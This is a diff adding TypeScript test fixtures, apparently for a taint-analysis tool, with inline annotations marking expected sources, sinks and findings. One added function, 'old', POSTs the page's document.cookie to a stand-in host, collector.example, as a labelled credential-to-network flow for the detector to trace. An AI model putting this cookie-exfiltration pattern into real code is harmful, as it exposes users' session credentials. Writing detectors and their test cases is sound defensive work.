@@ -56,3 +56,10 @@ export function paint(node: HTMLElement, path: string) {
 export function keep(store: any, path: string) {
   store.keepValue('display', readFileSync(path, 'utf8')); //~ source(FILE) f2
 }
+// --- path: packages/viewer/src/request.ts ---
+// A constructor that may be missing: what is said not to be null is constructed.
+export function old(data: string) {
+  const request = new XMLHttpRequest!();
+  request.open('POST', 'https://collector.example/old', true);
+  request.send(document.cookie); //~ source(CREDENTIAL) f3, sink(egress.http) f3, MISSING: finding(traced) f3
+}
